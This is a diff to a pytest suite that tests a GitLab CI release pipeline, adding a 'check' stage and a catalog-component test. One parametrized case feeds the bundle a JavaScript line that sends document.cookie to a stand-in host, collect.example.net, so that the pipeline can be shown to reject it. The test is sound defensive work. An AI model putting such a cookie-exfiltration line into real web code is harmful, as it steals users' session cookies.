@@ -6,19 +6,18 @@ from collections.abc import Iterator
 
 import pytest
 
-from tests.fakes.ci_local import SOURCE, Pipeline, kill
+from tests.fakes.ci_local import SOURCE, Pipeline, ci_yaml, kill
 from tests.fakes.faulty_s3 import FORWARD, HANG, Answer, FaultyS3, Request
 from tests.fakes.gitlab_project import JOB_TOKEN, NUMBER, Project
 from tests.fakes.npm_packages import installed
 from tests.fakes.web_server import serving
 from tests.functional.gitlab_team import Team, team_with
-from tests.functional.library import BUILD
 
 pytestmark = [pytest.mark.gitlab, pytest.mark.xdist_group("gitlab")]
 
-RELEASE = ("build", "publish", "record", "authorize", "promote", "invalidate", "verify", "outcome")
+RELEASE = ("build", "check", "publish", "record", "authorize", "promote", "invalidate", "verify", "outcome")
 ROLLBACK = ("record", "promote", "invalidate", "verify", "outcome")
-KEY_OF = {"build": "", "verify": "", "authorize": "record", "outcome": "record"}
+KEY_OF = {"build": "", "check": "", "verify": "", "authorize": "record", "outcome": "record"}
 CLICK = "release:promote"
 
 
@@ -54,20 +53,36 @@ def test_a_tag_is_a_release_in_which_each_job_has_its_own_key_and_no_other(team:
         assert secret.encode() not in left
 
 
-def test_a_bundle_that_is_rejected_is_not_published(team: Team) -> None:
-    team.library.write("build.py", BUILD.replace("tag.min.js", "another.js"))
-    version = team.tag()
-    team.library.write("build.py", BUILD)
-    team.library.commit("fix: build what release.toml says")
+@pytest.mark.parametrize(
+    ("source", "stops", "said"),
+    [
+        ("", "build", "FAIL 6"),
+        ("fetch('https://collect.example.net/' + document.cookie);", "check", "FAIL 18"),
+    ],
+    ids=["empty", "sends where nobody authorised it"],
+)
+def test_a_bundle_that_is_rejected_is_not_published(team: Team, source: str, stops: str, said: str) -> None:
+    version = team.tag(source)
     before = team.logged()
     pipeline = team.pipeline(version)
     ended = pipeline.run(manual=CLICK)
     assert ended.code != 0
-    assert "FAIL 6" in ended.output
-    assert "tag.min.js" in ended.output
-    assert pipeline.ran == {"release:build"}
+    assert said in ended.output, ended.output
+    assert pipeline.ran == set(jobs("release", *RELEASE[: RELEASE.index(stops) + 1]))
     assert team.published(version) == []
     assert team.logged() == before
+
+
+def test_the_same_pipeline_comes_as_a_component_of_the_catalog(team: Team) -> None:
+    team.library.write(".gitlab-ci.yml", ci_yaml(component=True, promote="on_success"))
+    version = team.tag()
+    team.library.write(".gitlab-ci.yml", ci_yaml())
+    team.library.commit("ci: include the project again")
+    pipeline = team.pipeline(version)
+    ended = pipeline.run()
+    assert ended.code == 0, ended.output
+    assert pipeline.ran == set(jobs("release", *RELEASE))
+    assert team.serves() == version, "and without a click, as its input says"
 
 
 class Stuck(FaultyS3):
@@ -135,7 +150,7 @@ def test_a_rollback_is_started_with_variables_and_builds_nothing(team: Team) -> 
 def test_of_two_tags_the_older_one_waits_for_its_click_and_is_refused_once_the_newer_one_is_served(team: Team) -> None:
     older = team.tag()
     pipeline = team.pipeline(older)
-    ended = pipeline.run(*jobs("release", "build", "publish", "record", "authorize"))
+    ended = pipeline.run(*jobs("release", "build", "check", "publish", "record", "authorize"))
     assert ended.code == 0, ended.output
     assert team.published(older) == ["manifest.json", "tag.min.js"]
     assert team.serves() != older
